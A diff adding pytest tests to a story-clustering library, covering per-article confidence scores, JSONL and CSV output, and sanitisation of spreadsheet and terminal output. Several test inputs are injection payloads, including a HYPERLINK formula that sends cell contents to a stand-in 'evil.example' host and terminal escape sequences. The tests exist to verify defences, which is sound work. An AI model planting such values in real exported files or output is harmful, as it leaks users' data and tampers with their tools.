@@ -2,16 +2,22 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import json
+
 import numpy as np
 import pandas as pd
 import pytest
 
 from clustering import StoryClusterer, articles_from_records, cluster_paths
 from clustering.grouping.stories import Story, story_order
+from clustering.output.formats import render
 from clustering.output.projection import project_2d
+from clustering.output.spreadsheet import neutralise
 from clustering.output.tables import STORY_COLUMNS, article_table, story_table
 from clustering.store.store import StoryStore
-from tests.conftest import SEEDS
+from tests.conftest import SEED_FILES, SEEDS
 from tests.fakes import AngleEmbedder, cosine_assigner
 
 S1_MEMBERS = ["000_6a94ddf4fcffe0c0.txt", "002_58349e569f7a92d2.txt", "004_5504c892ed689994.txt"]
@@ -113,3 +119,126 @@ def test_projection_is_deterministic_and_scaled():
     np.testing.assert_array_equal(points, project_2d(vectors.copy()))
     assert project_2d(np.ones((3, 4))).tolist() == [[0.5, 0.5]] * 3
     assert project_2d(np.zeros((0, 4))).shape == (0, 2)
+
+
+def _three_plus_one(**extra: object) -> StoryClusterer:
+    """Article b is central to a and c (cosines 0.8 and 0.8); d is unrelated: an outlier."""
+    vectors = np.array(
+        [[1.0, 0.0, 0.0], [0.8, 0.6, 0.0], [0.28, 0.96, 0.0], [0.0, 0.0, 1.0]], dtype=np.float32
+    )
+    rows = [{"id": i, "title": f"{i} title", **extra} for i in ("a", "b", "c", "d")]
+    clusterer = StoryClusterer(embedder=AngleEmbedder(), pair_model=None, max_distance=0.6)
+    return clusterer.fit(articles_from_records(rows).articles, embeddings=vectors)
+
+
+def test_each_article_carries_its_score_with_the_representative():
+    clusterer = _three_plus_one()
+    story, outlier = clusterer.stories_
+    assert story.representative == "b"
+    assert story.confidence == pytest.approx((0.8, 1.0, 0.8), abs=1e-6)
+    assert outlier.members == ("d",) and outlier.confidence == ()
+    table = article_table(clusterer)
+    assert table["id"].tolist() == ["a", "b", "c", "d"]
+    assert table["confidence"].tolist()[:3] == pytest.approx([0.8, 1.0, 0.8], abs=1e-6)
+    assert np.isnan(table["confidence"].iloc[3])
+
+
+def test_the_confidence_is_the_evidence_cluster_used(seeds):
+    # The P(same story) each member has with the representative in the candidate graph.
+    articles = articles_from_records(
+        [{"id": path.name, "text": path.read_text(encoding="utf-8")} for path in SEED_FILES]
+    ).articles
+    clusterer = StoryClusterer().fit(articles)
+    ids = clusterer.articles_["id"].tolist()
+    story = clusterer.stories_[0]
+    centre = ids.index(story.representative)
+    expected = [float(clusterer.scores_[ids.index(m), centre]) for m in story.members]
+    assert story.confidence == pytest.approx(expected, abs=1e-6)
+    assert story.confidence[story.members.index(story.representative)] == 1.0
+    assert all(0.5 <= value < 1.0 for value in expected if value != 1.0)
+    assert article_table(seeds)["confidence"].round(6).tolist()[:3] == [
+        round(value, 6) for value in story.confidence
+    ]
+
+
+def test_a_two_article_story_of_a_store_has_its_real_confidence(tmp_path):
+    # a0 and a10 lie 10 degrees apart: cosine 0.985, not the 1.0 of a story never scored.
+    rows = [{"id": "1", "title": "a0 floods north"}, {"id": "2", "title": "a10 floods again"}]
+    with StoryStore(tmp_path / "s.db", AngleEmbedder(), cosine_assigner()) as store:
+        store.add(articles_from_records(rows).articles)
+        table = article_table(store)
+    assert table["story"].tolist() == ["st000001", "st000001"]
+    assert table["confidence"].tolist() == pytest.approx([1.0, np.cos(np.deg2rad(10))], abs=1e-6)
+
+
+def _rendered(fmt: str, **extra: object) -> str:
+    clusterer = _three_plus_one(**extra)
+    return render(clusterer.articles_, clusterer.stories_, fmt)
+
+
+def test_jsonl_and_csv_carry_the_confidence_and_the_input_columns_samestory_ignores():
+    rows = [json.loads(line) for line in _rendered("jsonl", desk="Wire", tags=["x"]).splitlines()]
+    assert [list(row)[-3:] for row in rows] == [["path", "desk", "tags"]] * 4
+    assert [(r["id"], r["confidence"], r["desk"], r["tags"]) for r in rows] == [
+        ("a", 0.8, "Wire", ["x"]),
+        ("b", 1.0, "Wire", ["x"]),
+        ("c", 0.8, "Wire", ["x"]),
+        ("d", None, "Wire", ["x"]),
+    ]
+    table = list(csv.DictReader(io.StringIO(_rendered("csv", desk="Wire", tags=["x"]))))
+    assert [(r["id"], r["confidence"], r["desk"], r["tags"]) for r in table] == [
+        ("a", "0.8", "Wire", '["x"]'),
+        ("b", "1.0", "Wire", '["x"]'),
+        ("c", "0.8", "Wire", '["x"]'),
+        ("d", "", "Wire", '["x"]'),
+    ]
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1,"click")', "'=HYPERLINK"),
+        ("+33 1 23 45", "'+33 1 23 45"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\tcmd", "'\tcmd"),
+        ("\rcmd", "'\rcmd"),
+        ("-12", "-12"),
+        ("+3.5", "+3.5"),
+        ("-1e-3", "-1e-3"),
+        ("plain", "plain"),
+        ("", ""),
+    ],
+)
+def test_spreadsheet_formulas_are_neutralised_but_numbers_are_not(text, cell):
+    assert neutralise(text).startswith(cell)
+    assert neutralise(text) in (text, "'" + text)
+
+
+def test_csv_cells_start_no_formula_and_a_carriage_return_splits_no_row():
+    ids = [f"id{k}" for k in range(8)] + ["nine\rfake,row"]
+    records = [
+        {"id": ident, "title": '=HYPERLINK("http://evil.example")', "source": "@wire"}
+        for ident in ids
+    ]
+    articles = articles_from_records(records).articles
+    clusterer = StoryClusterer(embedder=AngleEmbedder(), pair_model=None).fit(articles)
+    text = render(clusterer.articles_, clusterer.stories_, "csv")
+    # newline="" keeps a bare \r: a reader that ends rows there, as spreadsheets do
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert len(rows) == 1 + 9
+    header, body = rows[0], rows[1:]
+    assert sorted(row[header.index("id")] for row in body) == sorted(ids)
+    assert {row[header.index("title")] for row in body} == {'\'=HYPERLINK("http://evil.example")'}
+    assert {row[header.index("source")] for row in body} == {"'@wire"}
+
+
+def test_the_table_shows_control_characters_escaped():
+    articles = articles_from_records(
+        [{"id": "evil\x1b]0;pwned\x07\x1b[2J", "title": "a0 title"}, {"id": "b\rX", "title": "zz"}]
+    ).articles
+    clusterer = StoryClusterer(embedder=AngleEmbedder(), pair_model=None).fit(articles)
+    table = render(clusterer.articles_, clusterer.stories_, "table")
+    assert not any(char in table for char in "\x1b\x07\r")
+    assert "evil\\x1b]0;pwned\\x07\\x1b[2J" in table and "b\\rX" in table
+    assert len(table.splitlines()) == 2 + 2 + 1
